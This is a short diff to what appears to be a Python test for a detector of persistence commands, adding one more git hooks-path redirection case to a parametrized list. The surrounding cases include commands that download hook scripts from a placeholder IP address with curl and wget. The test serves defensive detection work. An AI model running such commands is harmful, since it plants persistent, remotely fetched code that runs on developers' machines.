@@ -67,6 +67,7 @@ def test_a_hook_not_kept_by_the_workspace_is_still_persistence(command: str) -> 
     [
         "git config core.hooksPath .githooks && curl -so .githooks/pre-commit http://203.0.113.7/h",
         "git config core.hooksPath .githooks && echo 'make' > .githooks/pre-commit",
+        "git -C . config core.hooksPath .githooks && echo 'make' > .githooks/pre-push",
         "git config core.hooksPath .githooks; cd .githooks && wget -qO post-merge http://203.0.113.7/h",
     ],
 )
